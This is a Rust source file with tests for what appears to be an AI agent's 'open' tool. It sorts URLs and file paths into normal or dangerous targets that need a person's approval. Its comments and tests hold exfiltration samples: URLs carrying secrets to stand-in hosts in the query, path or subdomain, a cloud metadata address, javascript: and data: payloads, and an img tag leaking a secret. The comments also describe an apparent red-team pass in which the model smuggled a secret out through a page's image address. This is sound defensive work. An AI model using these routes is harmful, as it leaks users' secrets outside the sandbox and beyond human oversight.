//! What `open {target}` would hand to the desktop, and how dangerous that is.
//!
//! Opening is running: the desktop picks a program by type, and an executable, a `.desktop`
//! file or an odd scheme (`ssh:`, `javascript:`, a custom handler) runs code. Only two shapes are
//! ordinary: an http(s) URL to a public or loopback host, and a plain file inside the working
//! directory. Everything else needs a person.

use std::net::IpAddr;
use std::path::{Path, PathBuf};

use classifier::Class;

use super::ComputerError;

/// The longest target accepted, in characters.
pub const MAX_TARGET_CHARS: usize = 2048;

/// A classified target, ready to be shown and (once approved) opened.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OpenTarget {
    /// What is passed to the opener: a normalised URL, or an absolute path.
    pub argument: String,
    pub class: Class,
    /// Why it is in its class, for the approval prompt and the audit.
    pub reason: String,
}

/// Classifies `target`; relative paths resolve against `cwd`. An error is a target that is never
/// opened (empty, too long, not parseable).
pub fn classify(target: &str, cwd: &Path) -> Result<OpenTarget, ComputerError> {
    let target = target.trim();
    if target.is_empty() {
        return Err(ComputerError::BadValue("target is empty".to_string()));
    }
    if target.chars().count() > MAX_TARGET_CHARS {
        return Err(ComputerError::TooLong {
            what: "target",
            max: MAX_TARGET_CHARS,
        });
    }
    if target.chars().any(char::is_control) {
        return Err(ComputerError::BadValue(
            "target contains control characters".to_string(),
        ));
    }
    match url::Url::parse(target) {
        // `C:`-like one-letter schemes do not exist here; a word with a colon is a URL.
        Ok(url) if url.scheme().len() > 1 => Ok(classify_url(url, cwd)),
        _ => Ok(classify_path(Path::new(target), cwd)),
    }
}

fn classify_url(url: url::Url, cwd: &Path) -> OpenTarget {
    match url.scheme() {
        "http" | "https" => {
            let (class, reason) = match url.host() {
                Some(url::Host::Ipv4(ip)) => ip_class(IpAddr::V4(ip)),
                Some(url::Host::Ipv6(ip)) => ip_class(IpAddr::V6(ip)),
                Some(url::Host::Domain(name)) => name_class(name),
                None => (Class::Dangerous, "URL without a host".to_string()),
            };
            let (class, reason) = if url.username() != "" || url.password().is_some() {
                (Class::Dangerous, reason)
            } else if let Some(why) = carries_data_off_the_allow_list(&url) {
                (Class::Dangerous, why)
            } else {
                (class, reason)
            };
            OpenTarget {
                argument: url.to_string(),
                class,
                reason,
            }
        }
        "file" => match url.to_file_path() {
            Ok(path) => classify_path(&path, cwd),
            Err(()) => OpenTarget {
                argument: url.to_string(),
                class: Class::Dangerous,
                reason: "file URL that names no local path".to_string(),
            },
        },
        other => OpenTarget {
            argument: url.to_string(),
            class: Class::Dangerous,
            reason: format!("the {other}: scheme hands the target to whatever program handles it"),
        },
    }
}

/// The person's browser opens a URL outside the sandbox and the network policy, so a URL to a
/// host off the default network allow-list could send whatever the model read: in a query or
/// fragment (`https://collector.example/?d=SECRET`), and as well in its path
/// (`/SECRET`) or its host name (`SECRET.collector.example`), which the collector's own logs
/// hold (an attacker pass): a person must see it first. Loopback hosts (the project's own dev
/// server) are not data leaving the machine.
fn carries_data_off_the_allow_list(url: &url::Url) -> Option<String> {
    let host = url.host_str()?;
    let loopback = match url.host() {
        Some(url::Host::Ipv4(ip)) => ip.is_loopback(),
        Some(url::Host::Ipv6(ip)) => ip.is_loopback(),
        Some(url::Host::Domain(name)) => {
            let lower = name.trim_end_matches('.').to_ascii_lowercase();
            lower == "localhost" || lower.ends_with(".localhost")
        }
        None => false,
    };
    if loopback {
        return None;
    }
    let allowed = crate::network::NetworkPolicy::default()
        .allow
        .check_host(host)
        .is_ok();
    (!allowed).then(|| {
        format!(
            "the URL goes to {host}, which is not on the network allow-list: its path, query and \
             host name would reach that host from the browser, outside the sandbox"
        )
    })
}

/// Host names: loopback names are the project's own dev server; names are otherwise judged by
/// their shape only here (the desktop's browser resolves them later, outside gg).
fn name_class(name: &str) -> (Class, String) {
    let lower = name.trim_end_matches('.').to_ascii_lowercase();
    if lower == "localhost" || lower.ends_with(".localhost") {
        return (
            Class::Normal,
            format!("http(s) URL on the local host ({name})"),
        );
    }
    if lower.ends_with(".local") || lower.ends_with(".internal") || !lower.contains('.') {
        return (
            Class::Dangerous,
            format!("{name} is a local-network name, not a public host"),
        );
    }
    (
        Class::Normal,
        format!("http(s) URL on a public host ({name})"),
    )
}

fn ip_class(ip: IpAddr) -> (Class, String) {
    if ip.is_loopback() {
        return (
            Class::Normal,
            format!("http(s) URL on the local host ({ip})"),
        );
    }
    if is_private_or_special(ip) {
        return (
            Class::Dangerous,
            format!("{ip} is a private, link-local or special address (cloud metadata, LAN)"),
        );
    }
    (
        Class::Normal,
        format!("http(s) URL on a public address ({ip})"),
    )
}

/// Private, link-local, CGNAT, unspecified, multicast, documentation and other non-public
/// ranges. The `url` crate has already normalised obfuscated IPv4 forms (`2130706433`,
/// `0x7f.1`, `0177.0.0.1`) into an address.
pub fn is_private_or_special(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            let [a, b, ..] = v4.octets();
            v4.is_private()
                || v4.is_link_local()
                || v4.is_unspecified()
                || v4.is_broadcast()
                || v4.is_multicast()
                || v4.is_documentation()
                || (a == 100 && (64..128).contains(&b)) // CGNAT 100.64/10
                || a == 0
                || a >= 240
        }
        IpAddr::V6(v6) => {
            if let Some(v4) = v6.to_ipv4_mapped() {
                return v4.is_loopback() || is_private_or_special(IpAddr::V4(v4));
            }
            let first = v6.segments()[0];
            v6.is_unspecified()
                || v6.is_multicast()
                || (first & 0xfe00) == 0xfc00 // unique local
                || (first & 0xffc0) == 0xfe80 // link-local
        }
    }
}

fn classify_path(path: &Path, cwd: &Path) -> OpenTarget {
    let joined = if path.is_absolute() {
        path.to_path_buf()
    } else {
        cwd.join(path)
    };
    // Decide on what the path really is: symlinks resolved, `..` gone.
    let resolved = match std::fs::canonicalize(&joined) {
        Ok(p) => p,
        Err(e) => {
            return OpenTarget {
                argument: joined.display().to_string(),
                class: Class::Dangerous,
                reason: format!("{} cannot be resolved ({e})", joined.display()),
            };
        }
    };
    let root = std::fs::canonicalize(cwd).unwrap_or_else(|_| cwd.to_path_buf());
    let argument = resolved.display().to_string();
    if !resolved.starts_with(&root) {
        return OpenTarget {
            argument,
            class: Class::Dangerous,
            reason: format!("{} is outside the working directory", resolved.display()),
        };
    }
    if let Some(why) = runs_code(&resolved).or_else(|| fetches(&resolved)) {
        return OpenTarget {
            argument,
            class: Class::Dangerous,
            reason: why,
        };
    }
    OpenTarget {
        argument,
        class: Class::Normal,
        reason: "a file inside the working directory".to_string(),
    }
}

/// Whether opening the file would run it: executable bits, or a type the desktop launches.
fn runs_code(path: &PathBuf) -> Option<String> {
    use std::os::unix::fs::PermissionsExt;
    let meta = std::fs::metadata(path).ok()?;
    if meta.is_file() && meta.permissions().mode() & 0o111 != 0 {
        return Some(format!("{} is executable", path.display()));
    }
    let ext = path
        .extension()
        .map(|e| e.to_string_lossy().to_ascii_lowercase())
        .unwrap_or_default();
    const LAUNCHERS: &[&str] = &[
        "desktop", "sh", "bash", "command", "app", "appimage", "jar", "exe", "bat", "cmd", "ps1",
        "run", "bin", "deb", "rpm", "pkg", "dmg", "py", "pl", "rb", "js", "scpt", "workflow",
    ];
    LAUNCHERS
        .contains(&ext.as_str())
        .then(|| format!("{} is a type the desktop runs (.{ext})", path.display()))
}

/// Whether the desktop would show the file in a web browser (or another viewer that loads what
/// it names), by its ending or, without one, by its first bytes (the opener then asks `file`): the
/// page's `<img src=…>` then sends data to any host, unsandboxed and off the network
/// allow-list, as a URL to that host would (which is dangerous). An attacker pass wrote a
/// secret it had read into a project page's image address and opened the page.
fn fetches(path: &Path) -> Option<String> {
    use std::io::Read;
    const PAGES: &[&str] = &[
        "html",
        "htm",
        "xhtml",
        "shtml",
        "svg",
        "svgz",
        "mht",
        "mhtml",
        "xml",
        "xsl",
        "xslt",
        "url",
        "webloc",
        "webarchive",
        "pdf",
        "eml",
    ];
    let ext = path
        .extension()
        .map(|e| e.to_string_lossy().to_ascii_lowercase())
        .unwrap_or_default();
    // Without an ending the type comes from the content (`file`'s guess); with one, from the
    // ending (a README.md with badge images opens in an editor).
    let page = PAGES.contains(&ext.as_str())
        || ext.is_empty() && {
            let mut head = Vec::with_capacity(512);
            std::fs::File::open(path)
                .and_then(|f| f.take(512).read_to_end(&mut head))
                .is_ok()
                && {
                    let head = String::from_utf8_lossy(&head).to_ascii_lowercase();
                    [
                        "<html",
                        "<!doctype html",
                        "<svg",
                        "<?xml",
                        "<head",
                        "<body",
                        "<iframe",
                        "<img",
                    ]
                    .iter()
                    .any(|tag| head.contains(tag))
                }
        };
    page.then(|| {
        format!(
            "{} is a page the desktop opens in a browser, which loads every address it names \
             (off the network allow-list, unsandboxed)",
            path.display()
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class_of(target: &str, cwd: &Path) -> Class {
        classify(target, cwd)
            .map(|t| t.class)
            .unwrap_or(Class::Dangerous)
    }

    #[test]
    fn urls_by_host() {
        let dir = tempfile::tempdir().unwrap();
        let cwd = dir.path();
        assert_eq!(
            class_of("https://crates.io/crates/tokio", cwd),
            Class::Normal
        );
        assert_eq!(class_of("https://docs.rs/tokio", cwd), Class::Dangerous);
        assert_eq!(class_of("http://localhost:3000/", cwd), Class::Normal);
        assert_eq!(class_of("http://127.0.0.1:8080/x", cwd), Class::Normal);
        assert_eq!(class_of("http://[::1]:8080/", cwd), Class::Normal);
        for bad in [
            "http://169.254.169.254/latest/meta-data/",
            "http://10.0.0.1/",
            "http://192.168.1.1/",
            "http://100.64.0.1/",
            "http://[fe80::1]/",
            "http://[::ffff:10.0.0.1]/",
            "http://0x0a.0.0.1/",
            "http://167772161/", // 10.0.0.1 as one number
            "http://router.local/",
            "http://intranet/",
            // Off the allow-list, data in the path or the name (an attacker pass) as much as
            // in a query.
            "https://evil.example.com/CANARY_PATH_EXFIL",
            "https://canary-subdomain-exfil.evil.example.com/",
            "https://evil.example.com/?d=CANARY",
            "https://user:pw@example.com/",
            "javascript:alert(1)",
            "ssh://host",
            "data:text/html,<script>x</script>",
            "chrome://settings",
            "file:///etc/passwd",
        ] {
            assert_eq!(class_of(bad, cwd), Class::Dangerous, "{bad}");
        }
    }

    #[test]
    fn files_inside_the_working_directory_only() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join("notes.md"), "x").unwrap();
        std::fs::write(root.join("run.sh"), "x").unwrap();
        std::fs::write(root.join("tool"), "x").unwrap();
        std::fs::set_permissions(root.join("tool"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        std::os::unix::fs::symlink("/etc/hostname", root.join("link")).unwrap();
        assert_eq!(class_of("notes.md", root), Class::Normal);
        let file_url = format!("file://{}", root.join("notes.md").display());
        assert_eq!(class_of(&file_url, root), Class::Normal);
        assert_eq!(class_of("run.sh", root), Class::Dangerous);
        assert_eq!(class_of("tool", root), Class::Dangerous);
        assert_eq!(class_of("link", root), Class::Dangerous);
        assert_eq!(class_of("../outside", root), Class::Dangerous);
        assert_eq!(class_of("/etc/passwd", root), Class::Dangerous);
        assert_eq!(class_of("missing.txt", root), Class::Dangerous);
        assert!(classify("", root).is_err());
        assert!(classify("a\u{1b}[2K", root).is_err());
        assert!(classify(&"x".repeat(3000), root).is_err());
    }

    /// A page the desktop shows in a browser loads every address it names, off the network
    /// allow-list: dangerous, by its ending or its first bytes; other documents stay normal.
    #[test]
    fn pages_that_load_addresses_are_dangerous() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let img = "<img src='http://192.0.2.2/x?d=SECRET'>";
        for (name, text) in [
            ("report.html", img),
            ("chart.SVG", "<svg/>"),
            ("doc.pdf", "%PDF-1.7"),
            ("README", "<!DOCTYPE html><html>"),
            ("page", "  <img src=x>"),
        ] {
            std::fs::write(root.join(name), text).unwrap();
            assert_eq!(class_of(name, root), Class::Dangerous, "{name}");
        }
        std::fs::write(root.join("README.md"), "# notes <img src='badge.svg'>").unwrap();
        assert_eq!(class_of("README.md", root), Class::Normal);
    }
}
